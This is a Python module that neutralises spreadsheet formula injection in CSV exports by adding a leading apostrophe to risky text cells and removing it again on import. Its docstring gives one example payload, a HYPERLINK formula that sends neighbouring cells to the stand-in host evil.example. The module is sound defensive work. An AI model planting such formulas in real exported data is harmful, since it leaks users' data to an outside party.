"""The cell rule: what a value looks like in a CSV file that people open in a
spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return) as a formula: a lead whose name is
``=HYPERLINK("http://evil.example/?"&A1, "click")`` becomes a link that sends the
neighbouring cells away when a rep clicks it (CSV or formula injection, OWASP). Baton
stores such a name as it was given (it *is* the name somebody typed) and neutralises
it on the way out: every text cell that starts with one of those characters gets a
leading apostrophe, which spreadsheets read as "this is text" and do not show.

Values Baton itself produced or validated into a shape that cannot be a formula are
written as they are, so the file stays usable by programs: numbers (a negative score
is ``-3.5``, not ``'-3.5``), times in ISO 8601, and an E.164 phone number
(``+4930...``: digits after the plus, nothing a spreadsheet can run). The shape is
checked, not assumed: a phone column holding anything else is neutralised like text.

The import strips the guard again (:func:`unguard`), so a file exported and imported
back gives the same values. A value that itself starts with an apostrophe followed by
one of those characters is guarded too (``'=x`` is written ``''=x``), so it also comes
back exactly. A cell another program guarded the same way (``'=x``) imports as ``=x``.
"""

from __future__ import annotations

import json
import re
from datetime import date, datetime
from enum import StrEnum
from typing import Any, Final

FORMULA_STARTS: Final = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
GUARD: Final = "'"
E164: Final = re.compile(r"\+[1-9][0-9]{1,14}")
_FIRST: Final = FORMULA_STARTS | {GUARD}
"""First characters of a text that may need a guard."""
LIST_SEPARATOR: Final = "; "
"""Between the items of a list cell (tags cannot contain ``;``)."""


class Kind(StrEnum):
    """What a column holds, which decides how its cells are written."""

    TEXT = "text"
    PHONE = "phone"
    NUMBER = "number"
    TIME = "time"
    BOOL = "bool"
    LIST = "list"
    JSON = "json"


def _risky(text: str) -> bool:
    """Whether ``text``, once any leading apostrophes are set aside, starts like a
    formula (so that a guarded value is guarded once more and comes back exactly)."""
    bare = text.lstrip(GUARD)
    return bool(bare) and bare[0] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it without running it: with a leading
    apostrophe when it starts like a formula (or like an already guarded one)."""
    return GUARD + text if _risky(text) else text


def unguard(text: str) -> str:
    """Undo :func:`neutralise` for a cell read from a file: one leading apostrophe is
    removed from a cell that starts like a formula once apostrophes are set aside."""
    if text.startswith(GUARD) and _risky(text):
        return text[1:]
    return text


def is_e164(text: str) -> bool:
    """Whether ``text`` is an E.164 phone number (``+`` then 2 to 15 digits)."""
    return E164.fullmatch(text) is not None


def csv_cell(value: Any, kind: Kind = Kind.TEXT) -> str:
    """One value as the text of a CSV cell, safe to open in a spreadsheet.

    ``None`` is an empty cell; booleans are ``true``/``false``; numbers and times are
    written as they are (times in ISO 8601); lists are joined with ``"; "``; objects
    are JSON. Any text (a joined list and JSON too) goes through :func:`neutralise`,
    except an E.164 number in a phone column."""
    if value is None:
        return ""
    if type(value) is str:  # most cells: the quick way (an export writes millions)
        if value[:1] not in _FIRST:
            return value
        if kind is Kind.PHONE and is_e164(value):
            return value
        return neutralise(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value) if isinstance(value, float) else str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if kind is Kind.JSON or isinstance(value, dict):
        return neutralise(json.dumps(value, sort_keys=True, ensure_ascii=False))
    if isinstance(value, list | tuple):
        return neutralise(LIST_SEPARATOR.join(str(item) for item in value))
    text = str(value)
    if kind is Kind.PHONE and is_e164(text):
        return text
    return neutralise(text)
